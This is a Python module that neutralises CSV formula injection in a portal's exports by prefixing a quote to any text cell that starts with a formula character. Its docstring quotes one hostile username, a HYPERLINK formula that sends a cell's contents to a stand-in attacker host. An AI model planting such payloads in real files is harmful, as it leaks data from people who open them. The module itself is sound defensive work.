"""CSV cells a spreadsheet reads as text, never as a formula (issue 32 item 5).

A failed sign-in with the username `=HYPERLINK("http://evil.example/?x="&A2,"Click")` needs no
account and landed as it was in the audit CSV, where a spreadsheet would run it. OWASP's rule
for CSV injection: a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets
a single quote in front, which the spreadsheet shows as text. Every CSV the portal writes goes
through `writer` (audit, accounting, analytics). Numbers stay numbers: only text is changed,
so a text that merely looks like a negative number ("-5") also gets its quote.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value):
    """`value` safe for a spreadsheet: text that would start a formula gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer whose every text cell goes through `cell`."""

    def __init__(self, stream, **options) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable) -> None:
        self._writer.writerow([cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream, **options) -> SafeWriter:
    """A CSV writer for `stream` that writes no formula (see the module's docstring)."""
    return SafeWriter(stream, **options)
